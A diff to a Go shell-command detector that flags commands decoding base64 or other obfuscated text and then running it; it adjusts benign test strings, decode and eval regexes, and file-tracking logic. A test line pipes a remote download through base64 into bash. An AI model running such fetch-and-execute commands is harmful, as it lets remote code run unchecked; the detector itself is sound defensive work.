@@ -25,6 +25,7 @@ var runDecode = Detector{
 		"x=$(echo aWQK | base64 -d); $x", "curl -s https://example.com/p | base64 -d | bash",
 	),
 	Quiet: lines("",
+		"echo \"$CERT\" | base64 --decode | ./bin/show -text", "python3 -c 'import subprocess;subprocess.run(\"echo aGk= | base64 -d > f\", shell=True)'",
 		"echo \"$KEY\" | base64 -d > ~/.ssh/id_ed25519", "kubectl get secret s -o jsonpath='{.data.x}' | base64 -d", "base64 -d cert.b64 > ca.crt", "echo $K | base64 --decode | docker login -u x --password-stdin r",
 		"python3 -c \"from base64 import b64decode;print(b64decode('aGk='))\"", "echo aGk= | base64 -d", "echo \"$KUBECONFIG_B64\" | base64 -d > kubeconfig && kubectl get pods", "gunzip -c x.sql.gz | psql",
 		"jq -r .x f | base64 -d | jq .", "node -e \"console.log(Buffer.from('aGk=','base64').toString())\"",
@@ -61,7 +62,7 @@ func decodeRun(s *command.Simple, v track.View) *Finding {
 			return say(s, coi.High, "decoded text run by "+s.Name)
 		}
 	}
-	if s.Decoded && !takes && len(s.Argv) > 0 && s.Prog != "" && !textual(s) && !s.Subst && ranDecoded(s) {
+	if s.Decoded && !takes && len(s.Argv) > 0 && s.Prog != "" && !textual(s) && !s.Subst && ranDecoded(s, v) {
 		return say(s, coi.High, "decoded file run")
 	}
 	if s.DecodedName {
@@ -73,7 +74,7 @@ func decodeRun(s *command.Simple, v track.View) *Finding {
 		}
 	}
 	for _, c := range s.Code {
-		if !scripted(s) && evaluates(squeeze(lowered(c))) {
+		if !scripted(s) && evaluates(squeeze(strings.ToLower(ownText(c.Text)))) {
 			return say(s, coi.High, "decoded code run by "+s.Name)
 		}
 	}
@@ -82,13 +83,26 @@ func decodeRun(s *command.Simple, v track.View) *Finding {
 
 const (
 	runWords    = `(?:\bexec|\beval|system|popen|\bfunction|\bassert|iex|invoke-expression|loadstring|\bload|instance_eval|subprocess\.\w+|child_process[^;]{0,20}|execsync|shell_exec|passthru|runinthiscontext|compile)`
-	decodeWords = `(?:b64decode|base64|decode64|unhexlify|fromhex|hex2bin|atob\(|fromcharcode|decompress|gzinflate|rot13|codecs\.decode|marshal\.loads|decode_base64|pack\(["']?[hmu]|unpack\(["']?[hmu]|buffer\.from|chr\(ord\(|chr\(\w+\^|codecs\.encode|translate\(|\[::-1\])`
+	decodeWords = `(?:b64decode|base64|decode64|unhexlify|fromhex|hex2bin|atob\(|fromcharcode|decompress|gzinflate|rot13|codecs\.decode|marshal\.loads|decode_base64|unpack\s*\(?["']?[hmu]\b|pack\s*\(?["']?[hmu]|unpack\(["']?[hmu]|(?:\\[0-9]{2,3}){4,}|buffer\.from|chr\(ord\(|chr\(\w+\^|codecs\.encode|translate\(|\[::-1\])`
 )
 
 var (
 	runsDecoded  = regexp.MustCompile(runWords + `[("'\s{]{0,4}[^;]{0,60}` + decodeWords)
 	decodedValue = regexp.MustCompile(`([a-z_$]\w*)=[^;]{0,60}` + decodeWords)
 )
+
+var startsProgram = regexp.MustCompile(`(?i)(?:subprocess\.\w+|system|popen\w*|execsync|check_output|\brun|\bcall|spawn\w*)\s*\(\s*\[?\s*$`)
+
+// ownText is code without the command lines that it hands on: those are looked
+// at for themselves.
+func ownText(src string) string {
+	for _, l := range command.Literals(src) {
+		if strings.Contains(l.Raw, " ") && startsProgram.MatchString(l.Before) {
+			src = strings.Replace(src, l.Raw, "", 1)
+		}
+	}
+	return src
+}
 
 // evaluates reports code that runs what it decodes: the decoder stands in the
 // argument of eval, or fills a variable that is.
@@ -106,17 +120,12 @@ func evaluates(q string) bool {
 	return false
 }
 
-// ranDecoded reports files that this text decoded and now runs.
-func ranDecoded(s *command.Simple) bool {
-	if len(s.Prog) == 0 || s.Parent != nil && s.Parent.Decoded {
+// ranDecoded reports programs whose file this text decoded.
+func ranDecoded(s *command.Simple, v track.View) bool {
+	if !strings.Contains(s.Prog, "/") || s.Parent != nil && s.Parent.Decoded {
 		return false
 	}
-	for _, d := range s.Inputs() {
-		if decoderStage(d) && hasAny(s.Prog, "/") {
-			return true
-		}
-	}
-	return false
+	return slices.ContainsFunc(writers(s.Abs(s.Prog), v), decoderStage)
 }
 
 // notFilter reports programs that run what they read: not python -c, which
